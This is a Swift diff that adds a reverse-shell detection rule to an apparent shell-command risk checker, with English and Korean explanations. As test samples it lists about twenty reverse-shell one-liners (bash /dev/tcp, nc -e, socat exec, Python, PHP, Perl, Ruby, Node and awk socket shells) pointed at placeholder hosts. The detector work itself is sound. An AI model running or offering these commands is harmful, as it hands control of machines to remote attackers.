@@ -1,0 +1,78 @@
+import ShellGrammar
+
+extension RiskRule {
+  private static let shells: Set<String> = ["sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "csh", "tcsh", "pwsh"]
+  private static let listeners: Set<String> = ["nc", "ncat", "netcat", "socat", "telnet", "openssl"]
+
+  static let reverseShell = RiskRule(
+    id: "reverse-shell", family: .remoteCode,
+    reason: .init(
+      "Another machine gets a shell on this one.", "다른 컴퓨터가 이 컴퓨터의 셸을 쓰게 됩니다."),
+    safer: .init(
+      "Use ssh, which asks who is there and encrypts what is said.", "상대를 확인하고 암호화하는 ssh를 쓰십시오."),
+    reversibility: .no, touches: [.network, .system, .process],
+    danger: [
+      "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "nc -e /bin/sh 10.0.0.1 4444", "ncat --exec /bin/bash h 80",
+      "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | ‹nc h 80 > /tmp/f›", "‹exec 5<>/dev/tcp/h/80›",
+      "socat TCP:h:80 EXEC:/bin/sh", "nc -lvp 4444 -e /bin/bash", "telnet h 80 | ‹sh› | telnet h 81",
+      "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"h\",80));os.dup2(s.fileno(),0);subprocess.call([\"sh\"])'",
+      "php -r '$s=fsockopen(\"h\",80);exec(\"sh <&3 >&3\");'",
+      "ruby -rsocket -e 'exec \"sh\" if TCPSocket.new(\"h\",80)'",
+      "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);exec(\"/bin/sh -i\");'",
+      "awk 'BEGIN{s=\"/inet/tcp/0/h/80\"; \"sh\" |& getline}'",
+      "openssl s_client -connect h:80 | ‹sh›", "sh -i 2>&1 | ‹openssl s_client -connect h:80›",
+      "socat exec:bash,pty tcp:h:80",
+      "node -e 'require(\"net\").connect(80,\"h\").pipe(require(\"child_process\").spawn(\"sh\").stdin)'",
+      "bash -c '‹sh -i >& /dev/udp/h/53 0>&1›'", "nc h 80 -c sh",
+    ],
+    harmless: [
+      "nc -l 80", "nc -zv h 22", "socat - TCP:h:80", "openssl s_client -connect h:443", "python3 -c 'import socket'",
+      "(echo > /dev/tcp/h/80) && echo open", "ssh h", "awk '{print}' f", "php -r 'echo 1;'", "nc h 80 < f",
+    ]
+  ) { script in
+    script.invocations.compactMap { invocation in
+      guard let name = invocation.name, isReverse(invocation, name, script) else { return nil }
+      return Match(level: .danger, range: invocation.range)
+    }
+  }
+
+  private static func isReverse(_ invocation: Invocation, _ name: String, _ script: InvocationCollector) -> Bool {
+    if shells.contains(name) || name == "exec" {
+      let reachesNetwork = invocation.redirections.contains {
+        let path = $0.target.roughText
+        return path.hasPrefix("/dev/tcp/") || path.hasPrefix("/dev/udp/")
+      }
+      if reachesNetwork { return true }
+      // A shell that reads what a connection says, without a program of its own.
+      return name != "exec" && !readsOwnProgram(invocation)
+        && script.sources(of: invocation).contains {
+          ["telnet", "openssl"].contains($0.name ?? "") && $0.subcommand != "enc"
+        }
+    }
+    if listeners.contains(name) { return servesShell(invocation, name, script) }
+    guard
+      let code = ["-c", "-e", "-r"].lazy.compactMap({ invocation.value(of: $0) }).first
+        ?? (name.hasSuffix("awk") ? invocation.operands.first?.text : nil),
+      interpreters.contains(name) || name.hasSuffix("awk")
+    else { return false }
+    return CodeText.connectsAndRuns(code + (invocation.has("-rsocket") ? " socket" : ""))
+  }
+
+  private static func servesShell(_ invocation: Invocation, _ name: String, _ script: InvocationCollector) -> Bool {
+    switch name {
+    case "socat":
+      let starts = ["exec:", "system:", "shell:"]
+      return invocation.words.contains { word in starts.contains { word.lowercased().hasPrefix($0) } }
+    case "nc", "ncat", "netcat":
+      if invocation.has("--exec", "--sh-exec", "--lua-exec") { return true }
+      let executed = invocation.value(of: "-e") ?? invocation.value(of: "-c")
+      if executed.map({
+        shells.contains(InvocationCollector.baseName($0.split(separator: " ").first.map(String.init) ?? ""))
+      }) == true {
+        return true
+      }
+    default: break
+    }
+    return script.sources(of: invocation).contains { shells.contains($0.name ?? "") && !readsOwnProgram($0) }
+  }
+}
